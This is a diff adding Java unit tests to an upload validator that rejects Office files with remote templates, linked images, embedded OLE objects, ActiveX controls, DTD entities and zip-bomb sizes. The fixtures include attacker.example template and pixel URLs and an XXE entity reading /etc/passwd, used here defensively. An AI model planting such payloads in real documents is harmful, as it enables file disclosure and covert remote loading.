@@ -16,9 +16,11 @@ import java.nio.file.Path;
 import java.text.MessageFormat;
 import java.time.Duration;
 import java.util.Calendar;
+import java.util.HashMap;
 import java.util.List;
 import java.util.Locale;
 import java.util.Map;
+import java.util.Random;
 import java.util.ResourceBundle;
 import java.util.concurrent.atomic.AtomicLong;
 import java.util.function.LongSupplier;
@@ -285,6 +287,12 @@ class EvidenceInspectorTest {
     private static final String PDF_AUTOMATIC_URI = "開いたときなどに自動でWebページ等を開く動作（URI）を含むPDFは登録できません。"
             + "本文中のクリックして開くリンクは問題ありません。";
     private static final String PDF_MULTIMEDIA = "動画・音声・3Dなどのマルチメディア（RichMedia・3D・Screen・Movie・Sound）を含むPDFは登録できません。";
+    private static final String OFFICE_EXTERNAL = "外部のファイルやWebページを自動で読み込む参照（外部テンプレート・他のブックへのリンク・"
+            + "リンクされた画像やオブジェクトなど）を含むOfficeファイルは登録できません。通常のハイパーリンクは問題ありません。";
+    private static final String OFFICE_EMBEDDED = "埋め込みオブジェクト（OLE・埋め込まれたファイルやグラフのデータ）を含むOfficeファイルは"
+            + "登録できません。図として貼り付けるか、PDFに変換して登録してください。";
+    private static final String OFFICE_ACTIVEX = "ActiveXコントロールを含むOfficeファイルは登録できません。";
+    private static final String OFFICE_TOO_LARGE = "Officeファイルの展開後のサイズまたは項目数が上限を超えています（圧縮爆弾の可能性）。";
 
     @Test
     void refusesPdfWithXfaForm() throws IOException {
@@ -490,5 +498,148 @@ class EvidenceInspectorTest {
         PDActionURI uri = new PDActionURI();
         uri.setURI(address);
         return uri;
+    }
+
+    private static final String RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
+
+    @Test
+    void refusesDocxWithRemoteAttachedTemplate() throws IOException {
+        byte[] content = docx(Map.of(
+                "word/settings.xml", "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>",
+                "word/_rels/settings.xml.rels", relationships(relationship("attachedTemplate",
+                        "https://attacker.example/template.dotm", true))));
+        assertEquals(OFFICE_EXTERNAL, shownRefusal("計画書.docx", content));
+    }
+
+    @Test
+    void refusesXlsxLinkedToAnotherWorkbook() throws IOException {
+        byte[] content = ooxml("xl/workbook.xml", Map.of(
+                "xl/externalLinks/externalLink1.xml", "<externalLink/>",
+                "xl/externalLinks/_rels/externalLink1.xml.rels", relationships(relationship("externalLinkPath",
+                        "file:///\\\\server\\share\\台帳.xlsx", true))));
+        assertEquals(OFFICE_EXTERNAL, shownRefusal("名簿.xlsx", content));
+    }
+
+    @Test
+    void refusesDocxWithRemoteImage() throws IOException {
+        byte[] content = docx(Map.of("word/_rels/document.xml.rels",
+                relationships(relationship("image", "https://attacker.example/pixel.png", true))));
+        assertEquals(OFFICE_EXTERNAL, shownRefusal("画像.docx", content));
+    }
+
+    @Test
+    void refusesDocxWithLinkedOleObject() throws IOException {
+        byte[] content = docx(Map.of("word/_rels/document.xml.rels",
+                relationships(relationship("oleObject", "\\\\server\\share\\sheet.xlsx", true))));
+        assertEquals(OFFICE_EXTERNAL, shownRefusal("リンク.docx", content));
+    }
+
+    @Test
+    void acceptsDocxWithOrdinaryHyperlink() throws IOException {
+        byte[] content = docx(Map.of("word/_rels/document.xml.rels", relationships(
+                relationship("hyperlink", "https://www.city.kochi.kochi.jp/", true)
+                + relationship("styles", "styles.xml", false))));
+        assertEquals(EvidenceInspector.DOCX, EvidenceInspector.inspect(write("報告.docx", content), "報告.docx"));
+    }
+
+    @Test
+    void refusesDocxWithEmbeddedOleObject() throws IOException {
+        byte[] content = docx(Map.of(
+                "word/embeddings/oleObject1.bin", "MZ",
+                "word/_rels/document.xml.rels", relationships(relationship("oleObject", "embeddings/oleObject1.bin", false))));
+        assertEquals(OFFICE_EMBEDDED, shownRefusal("埋め込み.docx", content));
+    }
+
+    @Test
+    void refusesDocxWithEmbeddedPackage() throws IOException {
+        byte[] content = docx(Map.of("word/_rels/document.xml.rels",
+                relationships(relationship("package", "media/tool.docm", false))));
+        assertEquals(OFFICE_EMBEDDED, shownRefusal("パッケージ.docx", content));
+    }
+
+    @Test
+    void refusesDocxWithFileUnderEmbeddings() throws IOException {
+        byte[] content = docx(Map.of("Word/Embeddings/tool.exe", "MZ"));
+        assertEquals(OFFICE_EMBEDDED, shownRefusal("ファイル.docx", content));
+    }
+
+    @Test
+    void refusesDocxWithActiveXControl() throws IOException {
+        byte[] content = docx(Map.of(
+                "word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>",
+                "word/_rels/document.xml.rels", relationships(relationship("control", "activeX/activeX1.xml", false))));
+        assertEquals(OFFICE_ACTIVEX, shownRefusal("コントロール.docx", content));
+    }
+
+    @Test
+    void refusesXlsxWithControlRelationship() throws IOException {
+        byte[] content = ooxml("xl/workbook.xml", Map.of("xl/worksheets/_rels/sheet1.xml.rels",
+                relationships(relationship("control", "../ctrl/control1.xml", false))));
+        assertEquals(OFFICE_ACTIVEX, shownRefusal("名簿.xlsx", content));
+    }
+
+    @Test
+    void refusesDocxWhoseRelationshipsDeclareADocumentType() throws IOException {
+        byte[] content = docx(Map.of("word/_rels/document.xml.rels", "<?xml version=\"1.0\"?>"
+                + "<!DOCTYPE Relationships [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
+                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">&x;</Relationships>"));
+        assertEquals("Officeファイルの構造が正しくありません。", shownRefusal("型宣言.docx", content));
+    }
+
+    @Test
+    void refusesDocxWithOversizedRelationshipPart() throws IOException {
+        Random random = new Random(25);
+        StringBuilder noise = new StringBuilder();
+        while (noise.length() <= EvidenceInspector.MAX_OOXML_RELATIONSHIPS_PART) {
+            noise.append((char) ('a' + random.nextInt(26)));
+        }
+        String padding = "<!--" + noise + "-->";
+        byte[] content = docx(Map.of("word/_rels/document.xml.rels", relationships(padding)));
+        assertEquals(OFFICE_TOO_LARGE, shownRefusal("巨大.docx", content));
+    }
+
+    @Test
+    void refusesDocxWithTooManyEntries() throws IOException {
+        Map<String, String> parts = new HashMap<>();
+        for (int i = 0; i < EvidenceInspector.MAX_ZIP_ENTRIES; i++) {
+            parts.put("word/media/image" + i + ".png", "");
+        }
+        assertEquals(OFFICE_TOO_LARGE, shownRefusal("大量.docx", docx(parts)));
+    }
+
+    private static String relationships(String content) {
+        return "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
+                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" + content
+                + "</Relationships>";
+    }
+
+    private static int relationshipIds;
+
+    private static String relationship(String type, String target, boolean external) {
+        return "<Relationship Id=\"rId" + ++relationshipIds + "\" Type=\"" + RELATIONSHIPS + type + "\" Target=\""
+                + target.replace("&", "&amp;") + "\"" + (external ? " TargetMode=\"External\"" : "") + "/>";
+    }
+
+    private static byte[] docx(Map<String, String> parts) throws IOException {
+        return ooxml("word/document.xml", parts);
+    }
+
+    /** A minimal Office package: content types, package relationships, the main part, then the given parts. */
+    private static byte[] ooxml(String mainPart, Map<String, String> parts) throws IOException {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(out)) {
+            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
+            zip.write("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"
+                    .getBytes(StandardCharsets.UTF_8));
+            zip.putNextEntry(new ZipEntry("_rels/.rels"));
+            zip.write(relationships(relationship("officeDocument", mainPart, false)).getBytes(StandardCharsets.UTF_8));
+            zip.putNextEntry(new ZipEntry(mainPart));
+            zip.write("<document/>".getBytes(StandardCharsets.UTF_8));
+            for (Map.Entry<String, String> part : parts.entrySet()) {
+                zip.putNextEntry(new ZipEntry(part.getKey()));
+                zip.write(part.getValue().getBytes(StandardCharsets.UTF_8));
+            }
+        }
+        return out.toByteArray();
     }
 }
